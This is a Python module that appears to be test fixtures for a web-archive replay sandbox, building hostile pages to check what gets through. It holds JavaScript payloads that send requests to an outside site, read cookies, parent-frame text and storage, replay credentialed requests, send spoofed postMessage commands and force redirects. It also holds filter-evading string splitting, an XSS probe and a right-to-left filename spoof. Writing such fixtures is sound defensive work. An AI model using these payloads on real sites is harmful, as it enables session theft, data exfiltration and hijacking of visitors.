"""Pages that mean harm. `{e}` is another site, `{port}` its port, `{c}` the catalogue, `{p}` a publication's path."""

# Each writes to the other site under a name of its own, so that it can be seen which of them came through.
QUIET = {
    "fetch": "fetch('{e}/fetch').catch(() => 0)",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', '{e}/xhr'); x.send()",
    "no-cors": "fetch('{e}/no-cors', {{mode: 'no-cors', method: 'POST', body: 'x'}}).catch(() => 0)",
    "image": "new Image().src = '{e}/image'",
    "beacon": "navigator.sendBeacon('{e}/beacon', 'x')",
    "events": "new EventSource('{e}/events')",
    "socket": "new WebSocket('{e}/socket'.replace('http', 'ws'))",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('{e}/worker')\"])))",
    "script": "const s = document.createElement('script'); s.src = '{e}/script'; document.head.append(s)",
    "module": "import('{e}/module').catch(() => 0)",
    "style": "const s = document.createElement('style'); s.textContent = '@import \"{e}/style\"';"
    " document.head.append(s)",
    "prefetch": "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '{e}/prefetch';"
    " document.head.append(l)",
    "frame": "const f = document.createElement('iframe'); f.src = '{e}/frame'; document.documentElement.append(f)",
    "inner": "const f = document.createElement('iframe');"
    " f.srcdoc = '<img src={e}/inner>'; document.documentElement.append(f)",
    "data": "const f = document.createElement('iframe');"
    " f.src = 'data:text/html,<img src={e}/data>'; document.documentElement.append(f)",
    "ping": "const a = document.createElement('a'); a.href = '#here'; a.ping = '{e}/ping';"
    " document.documentElement.append(a); a.click()",
    "hidden-form": "const i = document.createElement('iframe'); i.name = 'hidden'; const f ="
    " document.createElement('form'); f.action = '{e}/hidden-form'; f.method = 'post'; f.target = 'hidden';"
    " document.documentElement.append(i, f); f.submit()",
}
RTC = """const peer = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{port}'}}]}});
peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer))"""
# What a page tries to read, and to do on this machine. All that comes of it is written to `stolen`.
STEALING = """
const stolen = window.stolen = [], take = (name, read) => {{
  try {{ Promise.resolve(read()).then(got => stolen.push([name, String(got)]), () => 0) }} catch (error) {{ }}
}};
take('cookie', () => document.cookie);
take('parent cookie', () => window['par' + 'ent']['docu' + 'ment'].cookie);
take('parent text', () => window['par' + 'ent']['docu' + 'ment'].body.innerText);
take('top place', () => window['to' + 'p']['loca' + 'tion'].href);
take('storage', () => JSON.stringify(window['local' + 'Storage']));
take('parent storage', () => window['par' + 'ent']['local' + 'Storage'].getItem('secret'));
take('databases', () => indexedDB.databases().then(JSON.stringify));
take('caches', () => caches.keys());
take('catalogue', () => fetch('{c}/', {{credentials: 'include'}}).then(answer => answer.text()));
take('catalogue JSON', () => fetch('{c}/catalogue/publications.json').then(answer => answer.text()));
take('own frame', () => fetch('/sample/', {{credentials: 'include'}}).then(answer => answer.text()));
take('worker', () => navigator.serviceWorker.register('{w}').then(() => 'registered'));
fetch('{c}{p}/verified', {{method: 'POST', mode: 'no-cors', credentials: 'include'}}).catch(() => 0);
new Image().src = '{c}/replay?collection=sample&url=http://x/';
window['par' + 'ent'].postMessage({{wb_type: 'load', url: 'https://lies.example/', ts: '19990101000000'}}, '*');
window['par' + 'ent'].postMessage({{wb_type: 'replace-url', url: 'https://lies.example/'}}, '*');
"""
# What would take the reader away. Each is a page of its own.
LEAVING = {
    "refresh": "<meta http-equiv='refresh' content='0; url={e}/refresh'>",
    "location": "<script>window['loca' + 'tion'] = '{e}/location'</script>",
    "top": "<script>window['to' + 'p']['loca' + 'tion'] = '{e}/top'</script>",
    "parent": "<script>window['par' + 'ent']['loca' + 'tion']['replace']('{e}/parent')</script>",
    "popup": "<script>window['op' + 'en']('{e}/popup')</script>",
    "form": "<form action='{e}/form' method='post'></form><script>document.forms[0].submit()</script>",
    "top-form": "<form action='{e}/top-form' method='post' target='_top'></form>"
    "<script>document.forms[0].submit()</script>",
    "base": "<base href='{e}/' target='_top'><a id='go' href='base'>x</a><script>document.links[0].click()</script>",
}
MARKUP = "<script>window.ran = 1</script><img src=x onerror='window.ran = 2'> \u202egnp.exe أمر"


def quiet(**given: object) -> str:
    scripts = [f"<script>try {{ {code.format(**given)} }} catch (error) {{ }}</script>" for code in QUIET.values()]
    return f"<!doctype html><title>quiet</title><body>{''.join(scripts)}"


def peer(**given: object) -> str:
    return f"<!doctype html><title>peer</title><body><script>{RTC.format(**given)}</script>"


def inner_peer(**given: object) -> str:
    return f'<!doctype html><title>peer</title><body><iframe srcdoc="<script>{RTC.format(**given)}</script>"></iframe>'


def stealing(**given: object) -> str:
    return f"<!doctype html><title>thief</title><body><h1>thief</h1><script>{STEALING.format(**given)}</script>"


def leaving(name: str, **given: object) -> str:
    return f"<!doctype html><title>{name}</title><body>{LEAVING[name].format(**given)}"
